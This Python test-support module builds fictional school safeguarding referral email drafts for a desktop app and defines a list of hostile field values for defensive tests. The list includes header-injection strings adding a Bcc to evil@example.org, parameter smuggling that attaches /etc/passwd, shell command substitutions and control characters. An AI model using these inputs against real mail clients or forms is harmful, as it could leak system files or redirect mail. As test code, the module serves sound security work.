"""What the tests of mail programs put into a draft: a fictional referral, plain or hostile."""

from pathlib import Path

import msgspec

from prevent_desktop.area.area import Area, CopyTo
from prevent_desktop.area.loading import load_area
from prevent_desktop.mail import DraftMessage, SecondFile, Sender, compose
from prevent_desktop.shipped import resources

AREA = load_area(resources.path("areas", "kent-and-medway.toml").read_bytes(), "area")
COPIES = ("lead@school.example.org", "head@school.example.org")
REFERENCE = "PR-7K2M-4H9Q"
PDF = b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n--=_\r\n.\r\nFrom \n%%EOF"
FORM = b"PK\x03\x04 the police's own form"
SHEET = b"%PDF-1.7 the rest"
SENDER = Sender("Ann O'Example, Γιώργος", 'Lead, "A" & B, 50% <x>', "01632 960001")

HOSTILE = (
    "',bcc='evil@example.org',attachment='file:///etc/passwd",
    "&attach=/etc/passwd&bcc=evil@example.org",
    "x\r\nBcc: evil@example.org\r\n\r\nbody",
    "\n--insert /etc/passwd",
    '" /a C:\\Windows\\win.ini "',
    "%0D%0ABcc:%20evil@example.org %PATH% %s %n",
    "\u202egro.elpmaxe@live\u202c \u2028 \u2066 \x00",
    "$(touch /tmp/owned) `id` ; | > \\",
    "ü€😀" * 700,
)
"""What a person, or somebody who gave a person a text to paste, could write into a field."""


def area_with_copies() -> Area:
    return msgspec.structs.replace(AREA, copy_to=CopyTo(always=COPIES))


def message(text: str = "", *, second: bool = False, sheet: bool = False) -> DraftMessage:
    """A draft; `text` stands in every field of the sender and in the subject."""
    area = area_with_copies()
    if text:
        area = msgspec.structs.replace(area, marking=text)
    return compose(
        area,
        Sender(text, text, text) if text else SENDER,
        REFERENCE,
        PDF,
        template=resources.read_text("mail", "message.txt"),
        second=SecondFile(FORM, "docx", SHEET if sheet else b"") if second else None,
    )


def saved(folder: Path, draft: DraftMessage) -> tuple[Path, ...]:
    """The attachments as the person keeps them."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in draft.files:
        (folder / name).write_bytes(data)
    return tuple(folder / name for name, _ in draft.files)
